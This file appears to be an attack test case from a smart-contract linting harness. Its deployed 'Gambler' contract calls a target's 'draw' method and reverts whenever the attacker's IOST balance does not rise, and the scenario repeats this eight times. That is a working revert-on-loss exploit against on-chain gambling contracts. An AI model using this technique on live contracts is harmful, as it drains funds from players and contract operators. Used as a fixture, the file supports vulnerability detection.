import type { Attack } from '../../lint-corpus/scene.js'

const GAMBLER = `class Gambler {
  init() {}
  _have() { return Number(blockchain.call('token.iost', 'balanceOf', ['iost', tx.publisher])[0]) }
  play(contract, method, args) {
    const before = this._have();
    blockchain.call(contract, method, JSON.parse(args));
    if (!(this._have() > before)) throw 'not won';
  }
}
module.exports = Gambler;`

export const attack: Attack = {
  harm: 'more',
  async prepare(scene) {
    await scene.use('alice', 'join')
    await scene.use('bobby', 'join')
    await scene.use('carol', 'join')
  },
  measure: (scene) => scene.balance('iost', 'julia'),
  async run(scene) {
    await scene.attack('join')
    await scene.deploy('julia', 'gambler', GAMBLER, {
      play: { args: ['string', 'string', 'string'], limit: { '*': 'unlimited' } },
    })
    for (let count = 0; count < 8; count++) {
      await scene.attack('$gambler/play', '$subject', 'draw', '[]')
      scene.advance(count)
    }
  },
}
